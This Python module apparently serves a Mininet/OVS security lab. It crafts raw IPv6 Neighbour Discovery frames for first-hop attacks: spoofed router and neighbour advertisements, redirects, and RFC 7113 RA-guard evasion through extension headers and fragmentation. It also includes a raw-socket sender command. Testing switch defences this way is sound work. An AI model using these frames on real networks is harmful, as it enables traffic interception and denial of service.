"""Neighbour discovery frames as bytes, for the v6 first-hop attacks (no scapy on the lab machine).

Ethernet + IPv6 (hop limit 255, as ND requires) + ICMPv6 with its checksum, optionally behind
extension headers or split into fragments (RFC 7113's RA-guard evasions). ``send_command`` gives
the one-line shell command a Mininet host runs to put frames on its own interface (AF_PACKET).
"""

from __future__ import annotations

import ipaddress
import struct
import sys

ETH_IPV6 = 0x86DD
NH_HOPOPT, NH_FRAGMENT, NH_DSTOPTS, NH_ICMPV6 = 0, 44, 60, 58
RA, NS, NA, REDIRECT = 134, 135, 136, 137
NA_ROUTER, NA_SOLICITED, NA_OVERRIDE = 0x80000000, 0x40000000, 0x20000000
RA_PREF_HIGH = 0x08  # RFC 4191 default router preference "high" in the RA flags byte
ALL_NODES = "ff02::1"


def mac_bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def multicast_mac(ip6: str) -> str:
    """33:33 + the low 32 bits of a multicast IPv6 address."""
    low = ipaddress.IPv6Address(ip6).packed[-4:]
    return "33:33:" + ":".join(f"{b:02x}" for b in low)


def solicited_node(ip6: str) -> str:
    low = ipaddress.IPv6Address(ip6).packed[-3:]
    return str(ipaddress.IPv6Address(bytes.fromhex("ff0200000000000000000001ff") + low))


def link_local(mac: str) -> str:
    """The EUI-64 link-local address Linux gives an interface with this MAC."""
    raw = bytearray(mac_bytes(mac))
    raw[0] ^= 0x02
    return str(ipaddress.IPv6Address(b"\xfe\x80" + bytes(6) + bytes(raw[:3]) + b"\xff\xfe" + bytes(raw[3:])))


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def icmpv6(src: str, dst: str, icmp_type: int, body: bytes, code: int = 0) -> bytes:
    """The ICMPv6 message with its checksum over the IPv6 pseudo-header."""
    msg = struct.pack("!BBH", icmp_type, code, 0) + body
    pseudo = ipaddress.IPv6Address(src).packed + ipaddress.IPv6Address(dst).packed
    pseudo += struct.pack("!I3xB", len(msg), NH_ICMPV6)
    return msg[:2] + struct.pack("!H", _checksum(pseudo + msg)) + msg[4:]


def lla_option(kind: int, mac: str) -> bytes:
    """Source (1) or target (2) link-layer address option."""
    return struct.pack("!BB", kind, 1) + mac_bytes(mac)


def na_body(target: str, mac: str, flags: int = NA_OVERRIDE) -> bytes:
    return struct.pack("!I", flags) + ipaddress.IPv6Address(target).packed + lla_option(2, mac)


def ns_body(target: str, mac: str | None) -> bytes:
    """An NS; ``mac`` None: no source link-layer option (a DAD probe from :: carries none)."""
    return struct.pack("!I", 0) + ipaddress.IPv6Address(target).packed + (lla_option(1, mac) if mac else b"")


def ra_body(mac: str, lifetime: int = 1800, flags: int = RA_PREF_HIGH) -> bytes:
    return struct.pack("!BBHII", 64, flags, lifetime, 0, 0) + lla_option(1, mac)


def redirect_body(target: str, destination: str) -> bytes:
    return struct.pack("!I", 0) + ipaddress.IPv6Address(target).packed + ipaddress.IPv6Address(destination).packed


def dstopts(next_header: int, pad_octets: int = 6) -> bytes:
    """A destination-options header of PadN only (``pad_octets`` + 2 a multiple of 8)."""
    assert (pad_octets + 2) % 8 == 0
    length = (pad_octets + 2) // 8 - 1
    return struct.pack("!BB", next_header, length) + struct.pack("!BB", 1, pad_octets - 2) + bytes(pad_octets - 2)


def frame(eth_src: str, eth_dst: str, src: str, dst: str, next_header: int, payload: bytes) -> bytes:
    ip6 = struct.pack("!IHBB", 6 << 28, len(payload), next_header, 255)
    ip6 += ipaddress.IPv6Address(src).packed + ipaddress.IPv6Address(dst).packed
    return mac_bytes(eth_dst) + mac_bytes(eth_src) + struct.pack("!H", ETH_IPV6) + ip6 + payload


def nd_frame(eth_src: str, eth_dst: str, src: str, dst: str, icmp_type: int, body: bytes) -> bytes:
    """An ND message straight after the IPv6 header (what OVS parses)."""
    return frame(eth_src, eth_dst, src, dst, NH_ICMPV6, icmpv6(src, dst, icmp_type, body))


def behind_dstopts(eth_src: str, eth_dst: str, src: str, dst: str, icmp_type: int, body: bytes) -> bytes:
    """The same message behind one destination-options header (RFC 7113 section 2)."""
    inner = dstopts(NH_ICMPV6) + icmpv6(src, dst, icmp_type, body)
    return frame(eth_src, eth_dst, src, dst, NH_DSTOPTS, inner)


def fragmented(
    eth_src: str, eth_dst: str, src: str, dst: str, icmp_type: int, body: bytes, ident: int = 0x5650
) -> list[bytes]:
    """RFC 7113 section 3: a first fragment holding only a long destination-options header, the
    ICMPv6 header in the second one, so a switch looking at the first sees no ICMPv6 at all."""
    unfragmentable = dstopts(NH_ICMPV6, pad_octets=70) + icmpv6(src, dst, icmp_type, body)
    cut = 48  # a multiple of 8 inside the options header
    first, rest = unfragmentable[:cut], unfragmentable[cut:]
    frag1 = struct.pack("!BBHI", NH_DSTOPTS, 0, 0 | 1, ident) + first
    frag2 = struct.pack("!BBHI", NH_DSTOPTS, 0, (cut // 8) << 3, ident) + rest
    return [frame(eth_src, eth_dst, src, dst, NH_FRAGMENT, f) for f in (frag1, frag2)]


SENDER = (
    "import socket,sys,time\n"
    "s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW)\n"
    "s.bind((sys.argv[1],0))\n"
    "n,dt=int(sys.argv[2]),float(sys.argv[3])\n"
    "for i in range(n):\n"
    " [s.send(bytes.fromhex(h)) for h in sys.argv[4:]]\n"
    " time.sleep(dt if i+1<n else 0)\n"
)


def send_command(iface: str, frames: list[bytes], repeat: int = 1, every: float = 0.0) -> str:
    """A shell command that sends ``frames`` out of ``iface`` (run inside the sending host),
    ``repeat`` times ``every`` seconds apart (an attacker re-asserting a claim)."""
    hexes = " ".join(f.hex() for f in frames)
    return f"{sys.executable} -c '{SENDER}' {iface} {repeat} {every} {hexes}"
